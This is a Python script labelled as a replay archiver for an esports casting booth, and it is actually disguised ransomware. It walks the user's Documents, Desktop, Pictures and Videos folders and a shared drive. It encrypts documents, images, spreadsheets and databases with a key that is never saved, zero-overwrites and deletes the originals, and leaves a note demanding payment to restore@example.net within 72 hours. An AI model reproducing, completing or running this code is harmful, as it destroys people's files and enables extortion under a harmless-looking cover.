#!/usr/bin/env python3
"""Replay archiver for the casting booth.

Packs match replays and VOD clips into the compact archive format used by the
replay server, so the shared drive doesn't fill up mid-season.
"""
import argparse
import hashlib
import logging
import os
import secrets
import sys

LOG = logging.getLogger("replay-archiver")

# Extensions the casters keep on the share. Anything else is left alone.
PACK_TYPES = (".dem", ".rofl", ".replay", ".mp4", ".mkv", ".docx", ".xlsx",
              ".pdf", ".jpg", ".png", ".csv", ".db", ".sqlite")
ARCHIVE_SUFFIX = ".arx"
NOTICE_NAME = "ARCHIVE_README.txt"
CHUNK = 1 << 16


def default_roots():
    home = os.path.expanduser("~")
    return [os.path.join(home, d) for d in ("Videos", "Documents", "Desktop", "Pictures")] + \
        [os.environ.get("REPLAY_SHARE", "/srv/arena/share")]


class StreamPacker:
    """Small keyed stream transform so archives are not browsable by players."""

    def __init__(self, key):
        self.key = key

    def _stream(self, nonce, length):
        out = bytearray()
        counter = 0
        while len(out) < length:
            block = hashlib.sha256(self.key + nonce + counter.to_bytes(8, "big")).digest()
            out.extend(block)
            counter += 1
        return bytes(out[:length])

    def pack_file(self, src):
        nonce = secrets.token_bytes(16)
        dst = src + ARCHIVE_SUFFIX
        with open(src, "rb") as fin, open(dst, "wb") as fout:
            fout.write(nonce)
            offset = 0
            while True:
                buf = fin.read(CHUNK)
                if not buf:
                    break
                ks = self._stream(nonce + offset.to_bytes(8, "big"), len(buf))
                fout.write(bytes(a ^ b for a, b in zip(buf, ks)))
                offset += 1
        return dst


def tidy_original(path):
    # overwrite before unlinking so the share's recycle bin doesn't keep a copy
    try:
        size = os.path.getsize(path)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * min(size, CHUNK))
        os.remove(path)
    except OSError as exc:
        LOG.debug("could not tidy %s: %s", path, exc)


def candidates(roots):
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                if name.lower().endswith(PACK_TYPES):
                    yield dirpath, os.path.join(dirpath, name)


def write_notice(folder, ref):
    text = (
        "Files in this folder have been archived.\n"
        "To restore them, contact restore@example.net with reference %s\n"
        "and follow the payment instructions you receive within 72 hours.\n" % ref
    )
    try:
        with open(os.path.join(folder, NOTICE_NAME), "w") as fh:
            fh.write(text)
    except OSError:
        pass


def run(roots, dry_run):
    key = secrets.token_bytes(32)
    ref = hashlib.sha256(key).hexdigest()[:12]
    packer = StreamPacker(key)
    touched = set()
    count = 0
    for folder, path in candidates(roots):
        if dry_run:
            LOG.info("would pack %s", path)
            continue
        try:
            packer.pack_file(path)
            tidy_original(path)
            touched.add(folder)
            count += 1
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    for folder in touched:
        write_notice(folder, ref)
    # key is not written anywhere locally; the replay server holds the index
    del key
    LOG.info("packed %d files in %d folders", count, len(touched))
    return count


def main():
    ap = argparse.ArgumentParser(description="Archive replays on the casting share")
    ap.add_argument("roots", nargs="*", help="folders to archive (default: booth folders)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    roots = args.roots or default_roots()
    n = run(roots, args.dry_run)
    sys.exit(0 if n >= 0 else 1)


if __name__ == "__main__":
    main()
